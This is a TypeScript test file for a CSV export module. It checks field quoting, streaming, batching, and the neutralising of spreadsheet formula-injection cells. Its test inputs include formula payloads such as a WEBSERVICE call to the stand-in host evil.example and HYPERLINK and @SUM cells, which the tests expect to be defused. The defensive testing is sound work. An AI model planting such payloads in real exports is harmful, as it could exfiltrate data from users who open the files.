import type { Readable } from 'node:stream';
import { buffer } from 'node:stream/consumers';
import { describe, expect, it } from 'vitest';
import {
  byDescendingId,
  byDescendingIdRanges,
  csvLine,
  csvLinesStream,
  csvStream,
  neutralizeFormula,
  neutralizeQuotedLine,
  quotedFields,
  type CsvColumn,
} from './csv-export.js';

// Buffer, not stream/consumers' text(): that one's TextDecoder drops the byte-order mark.
const text = async (stream: Readable) => (await buffer(stream)).toString('utf8');

interface Row {
  id: number;
  name: string;
  note: string | null;
}

const COLUMNS: CsvColumn<Row>[] = [
  { header: 'ID', value: (row) => row.id },
  { header: 'Name', value: (row) => row.name },
  { header: 'Note', value: (row) => row.note },
];

async function* batchesOf<Item>(...batches: Item[][]) {
  for (const batch of batches) yield batch;
}

describe('csvLine (RFC 4180)', () => {
  it('quotes every field, whatever it holds, and doubles its quotes', () => {
    expect(csvLine(['plain', 'a,b', 'a;b', 'say "hi"', 'two\nlines', 'cr\rhere', '', '-200.00'])).toBe(
      '"plain","a,b","a;b","say ""hi""","two\nlines","cr\rhere","","-200.00"\r\n',
    );
  });
});

describe('neutralizeFormula (OWASP)', () => {
  it.each([
    ['=HYPERLINK("http://x")', `'=HYPERLINK("http://x")`],
    ['+1 555 0100', "'+1 555 0100"],
    ['-2+3 pallets', "'-2+3 pallets"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\t=1', "'\t'=1"],
    ['\r=1', "'\r'=1"],
    // A cell can begin inside a field, for readers that split at ; , tab or a line break.
    ['Rate sheet;=WEBSERVICE("https://evil.example")', `Rate sheet;'=WEBSERVICE("https://evil.example")`],
    ['a,@SUM(A1)', "a,'@SUM(A1)"],
    ['a;\t=1', "a;'\t'=1"],
    ['line one\n+cmd', "line one\n'+cmd"],
    ['line one\r\n-2+3', "line one\r\n'-2+3"],
  ])('neutralises %j', (text, expected) => {
    expect(neutralizeFormula(text)).toBe(expected);
  });

  it.each(['-200.00', '12.34', '0', 'plain text', 'Suite 5, 2nd floor', 'a - b', 'a; b', 'x=y', ''])('leaves %j as it is', (text) => {
    expect(neutralizeFormula(text)).toBe(text);
  });
});

describe('csvStream', () => {
  it('writes the byte-order mark, the header and every row of every batch, in order', async () => {
    const csv = await text(csvStream(COLUMNS, batchesOf([{ id: 3, name: 'Ann, Lee', note: null }], [{ id: 2, name: 'Bo', note: 'ok' }])));
    expect(csv).toBe('\ufeff"ID","Name","Note"\r\n"3","Ann, Lee",""\r\n"2","Bo","ok"\r\n');
  });

  it('writes the header alone when nothing matches', async () => {
    expect(await text(csvStream(COLUMNS, batchesOf()))).toBe('\ufeff"ID","Name","Note"\r\n');
  });

  it('neutralises cells a spreadsheet would run as formulas', async () => {
    const csv = await text(csvStream(COLUMNS, batchesOf([{ id: 1, name: '=HYPERLINK("http://x")', note: 'Rate sheet;@SUM(A1)' }])));
    expect(csv.split('\r\n')[1]).toBe(`"1","'=HYPERLINK(""http://x"")","Rate sheet;'@SUM(A1)"`);
  });

  it('fails the stream when a batch cannot be read', async () => {
    async function* failing(): AsyncGenerator<Row[]> {
      yield [{ id: 1, name: 'a', note: null }];
      throw new Error('database went away');
    }
    await expect(text(csvStream(COLUMNS, failing()))).rejects.toThrow('database went away');
  });
});

/** A line as csvLineSql has the database write it: every field quoted, quotes doubled, nothing neutralised. */
const quotedLine = (fields: readonly string[]) => fields.map((field) => `"${field.replaceAll('"', '""')}"`).join(',');

/** Every value the formula rules treat specially, and look-alikes that must stay as they are. */
const CELLS = [
  '=HYPERLINK("http://x")',
  '+1 555 0100',
  '-2+3 pallets',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  'Rate sheet;=WEBSERVICE("https://evil.example")',
  'a,@SUM(A1)',
  'line one\n+cmd',
  'line one\r\n-2+3',
  'say "=1"',
  '""=',
  '"',
  '-200.00',
  '12.34',
  'plain text',
  'Suite 5, 2nd floor',
  'a - b',
  'x=y',
  '2026-03-04T05:06:07.089Z',
  '',
];

describe('neutralizeQuotedLine', () => {
  it('writes every pair of cells as csvLine of the neutralised cells does', () => {
    for (const first of CELLS) {
      for (const second of CELLS) {
        const fields = ['SR-1', first, 'middle', second];
        expect({ fields, line: neutralizeQuotedLine(quotedLine(fields)) }).toEqual({
          fields,
          line: csvLine(fields.map(neutralizeFormula)).slice(0, -2),
        });
      }
    }
  });

  it('returns a line without a possible formula start as it is', () => {
    const line = quotedLine(['SR-1', '2026-03-04T05:06:07.089Z', 'Suite 5, 2nd floor', 'a - b', '']);
    expect(neutralizeQuotedLine(line)).toBe(line);
  });
});

describe('quotedFields', () => {
  it('reads back the fields of a quoted line, quotes undoubled', () => {
    expect(quotedFields('"a","b ""c""","","d,e","""","x\ny"')).toEqual(['a', 'b "c"', '', 'd,e', '"', 'x\ny']);
  });

  it.each(['a,"b"', '"a",b', '"a"b', '"a', '"a",', ''])('refuses %j, which the database never writes', (line) => {
    expect(() => quotedFields(line)).toThrow(/CSV line/);
  });
});

describe('csvLinesStream', () => {
  it('writes the byte-order mark, the header, then each line neutralised and ended with CRLF', async () => {
    const csv = await text(csvLinesStream(['ID', 'Name'], batchesOf([{ line: '"2","=1+1"' }], [{ line: '"1","Bo"' }])));
    expect(csv).toBe(`\ufeff"ID","Name"\r\n"2","'=1+1"\r\n"1","Bo"\r\n`);
  });

  it('sends a big export in pieces, losing and repeating nothing', async () => {
    const lines = Array.from({ length: 3_000 }, (_, index) => ({ line: quotedLine([String(index), 'x'.repeat(index % 100)]) }));
    const pieces: Buffer[] = [];
    for await (const piece of csvLinesStream(['ID', 'Text'], batchesOf(lines.slice(0, 1_000), lines.slice(1_000)))) {
      pieces.push(piece as Buffer);
    }
    expect(pieces.length).toBeGreaterThan(2);
    expect(Buffer.concat(pieces).toString('utf8')).toBe(`\ufeff"ID","Text"\r\n${lines.map(({ line }) => `${line}\r\n`).join('')}`);
  });

  it('fails the stream when a line is not one the database writes', async () => {
    await expect(text(csvLinesStream(['ID'], batchesOf([{ line: '=1,"a"' }])))).rejects.toThrow(/CSV line/);
  });
});

describe('byDescendingId', () => {
  it('asks for the next batch below the last id until a short batch ends it', async () => {
    const asked: (number | undefined)[] = [];
    const ids = [9, 8, 7, 6, 5];
    const batches = byDescendingId(async (beforeId, size) => {
      asked.push(beforeId);
      return ids
        .filter((id) => beforeId === undefined || id < beforeId)
        .slice(0, size)
        .map((id) => ({ id }));
    }, 2);
    const seen: number[] = [];
    for await (const batch of batches) seen.push(...batch.map((row) => row.id));
    expect(seen).toEqual([9, 8, 7, 6, 5]);
    expect(asked).toEqual([undefined, 8, 6]);
  });
});

describe('byDescendingIdRanges', () => {
  it('walks the ids down in ranges, the next asked for before the last is used, skipping empty ranges', async () => {
    const ids = [12, 11, 7, 6, 5, 1];
    const asked: [number, number][] = [];
    const batches = byDescendingIdRanges(
      async (fromId, toId) => {
        asked.push([fromId, toId]);
        return ids.filter((id) => id >= fromId && id < toId).map((id) => ({ id }));
      },
      12,
      4,
    );
    const seen: number[][] = [];
    for await (const batch of batches) seen.push(batch.map((row) => row.id));
    expect(seen).toEqual([[12, 11], [7, 6, 5], [1]]);
    expect(asked).toEqual([
      [9, 13],
      [5, 9],
      [1, 5],
    ]);
  });

  it('asks for nothing when the table is empty', async () => {
    const batches = byDescendingIdRanges(async () => [{ id: 1 }], 0);
    for await (const batch of batches) expect.unreachable(`got ${JSON.stringify(batch)}`);
  });
});
